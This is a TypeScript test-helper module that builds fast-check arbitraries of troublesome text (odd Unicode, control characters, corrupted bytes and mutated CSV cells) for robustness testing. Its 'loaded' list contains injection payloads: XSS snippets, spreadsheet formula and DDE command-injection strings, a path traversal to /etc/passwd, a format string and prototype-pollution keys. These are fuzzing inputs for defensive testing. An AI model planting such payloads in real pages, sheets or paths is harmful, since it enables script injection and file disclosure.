// Robust: texts that break programs, as arbitraries of fast-check. Characters are named by The Unicode Standard.
import fc from 'fast-check';

/** Words that mean something to JavaScript, HTML, templates, spreadsheets, CSV or the shell. */
const loaded = [
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'undefined',
  'NaN',
  '</script><script>alert(1)</script>',
  '</title></svg></style>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '<!--',
  ']]>',
  '&lt;b&gt;&#60;&amp;',
  '{{title}}{{{this}}}',
  '$1$&',
  'javascript:alert(1)',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '=HYPERLINK("http://example.invalid?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
  'a;=1+1',
  '../../etc/passwd',
  'C:\\con',
  '%s%n%d',
  '0x10',
  '1e999',
  '_x0000_',
];

/** Marks over marks, joined pictures, other directions, blanks that are none, and letters that change under any treatment. */
const odd = [
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u035d\u0358\u0489',
  '\u0301\u0301alone',
  'e\u0301 and \u00e9',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
  '\u202eevil\u202c',
  '\u2067\u05d0\u05d1\u05d2',
  '\u0627\u0644\u0639\u0631\u0628\u064a\u0629',
  '\u200b\u200c\u200d\u2060',
  '\u00ad\u034f\u180e',
  '\ufeffinside\ufeff',
  '\u2028line\u2029',
  '\u00a0\u3000\u1680',
  '\u0130\u0131\u017f\u1e9e\u00df\ufb03',
  '\ufffd\ufffc',
  '\ufdd0\ue000\u{10fffd}',
  '\u{10400}\u{1d504}',
  '\u0660\u0661\u0968',
  '\u115f\u3164',
  'a\tb\nc',
  'x'.repeat(400),
];

/** What only a program puts into a file: controls, halves of characters, characters that are none. */
const broken = ['\0', '\u0001\u001b[31m', '\u007f\u0085', '\ud800', '\udc00\ud800', '\ufffe\uffff'];

const piece = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...loaded) },
  { weight: 4, arbitrary: fc.constantFrom(...odd) },
  { weight: 1, arbitrary: fc.constantFrom(...broken) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
);

/** One to three odd pieces in a row. */
export const oddText: fc.Arbitrary<string> = fc
  .array(piece, { minLength: 1, maxLength: 3 })
  .map((pieces) => pieces.join(''));

/** So many odd texts, with a letter before or behind each so that they differ. */
export const oddNames = (count: number): fc.Arbitrary<string[]> =>
  fc.tuple(fc.array(oddText, { minLength: count, maxLength: count }), fc.boolean()).map(([texts, before]) =>
    texts.map((text, at) => {
      const letter = String.fromCodePoint(0x61 + at);
      return before ? `${letter}${text}` : `${text}${letter}`;
    }),
  );

/** Bytes changed as disks, mails and careless hands do it: flipped, cut off, left out, doubled, moved. */
export const mutateBytes = (bytes: Buffer): fc.Arbitrary<Buffer> => {
  const place = fc.double({ min: 0, max: 1, noNaN: true });
  const at = (share: number): number => Math.min(bytes.length, Math.floor(share * bytes.length));
  const change = fc.oneof(
    fc.tuple(place, fc.integer({ min: 0, max: 255 })).map(([where, value]) => (from: Buffer): Buffer => {
      const copy = Buffer.from(from);
      if (copy.length > 0) copy[Math.min(copy.length - 1, at(where))] = value;
      return copy;
    }),
    place.map((where) => (from: Buffer) => from.subarray(0, at(where))),
    fc.tuple(place, fc.integer({ min: 1, max: 40 })).map(
      ([where, length]) =>
        (from: Buffer) =>
          Buffer.concat([from.subarray(0, at(where)), from.subarray(at(where) + length)]),
    ),
    fc.tuple(place, place, fc.integer({ min: 1, max: 200 })).map(
      ([where, source, length]) =>
        (from: Buffer) =>
          Buffer.concat([
            from.subarray(0, at(where)),
            from.subarray(at(source), at(source) + length),
            from.subarray(at(where)),
          ]),
    ),
    fc.tuple(place, oddText).map(
      ([where, text]) =>
        (from: Buffer) =>
          Buffer.concat([from.subarray(0, at(where)), Buffer.from(text), from.subarray(at(where))]),
    ),
  );
  return fc
    .array(change, { minLength: 1, maxLength: 4 })
    .map((steps) => steps.reduce((to, step) => step(to), bytes));
};

/** Cells swapped, doubled, blanked or replaced, rows doubled or left out, in a sheet of simple cells. */
export const mutateCells = (csv: string): fc.Arbitrary<string> => {
  const rows = csv
    .trimEnd()
    .split('\n')
    .map((line) => line.split(','));
  const row = fc.nat({ max: rows.length - 1 });
  const column = fc.nat({ max: (rows[0]?.length ?? 1) - 1 });
  const quote = (cell: string): string =>
    /[",;\t\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell;
  const likely = fc.constantFrom(
    '',
    '0',
    '-1',
    '1e9',
    '60%',
    '12,5',
    '1,234',
    '99999999999',
    'none',
    'all',
    '2026-02-30',
    '17 ml',
    '20 g',
  );
  const change = fc.oneof(
    fc.tuple(row, column, fc.oneof(likely, oddText)).map(([at, index, text]) => (table: string[][]) => {
      const cells = table[at];
      if (cells !== undefined) cells[index] = quote(text);
      return table;
    }),
    fc.tuple(row, column, row, column).map(([at, index, other, otherIndex]) => (table: string[][]) => {
      const [one, two] = [table[at], table[other]];
      const [a = '', b = ''] = [one?.[index], two?.[otherIndex]];
      if (one !== undefined && two !== undefined) [one[index], two[otherIndex]] = [b, a];
      return table;
    }),
    fc.tuple(row, row).map(
      ([at, to]) =>
        (table: string[][]) =>
          table.toSpliced(to, 0, [...(table[at] ?? [])]),
    ),
    row.map((at) => (table: string[][]) => table.toSpliced(at, 1)),
    fc.tuple(row, oddText).map(([at, text]) => (table: string[][]) => {
      table[at]?.push(quote(text));
      return table;
    }),
  );
  return fc
    .array(change, { minLength: 1, maxLength: 5 })
    .map((steps) => steps.reduce((table, step) => step(table), structuredClone(rows)))
    .map((table) => table.map((cells) => `${cells.join(',')}\n`).join(''));
};
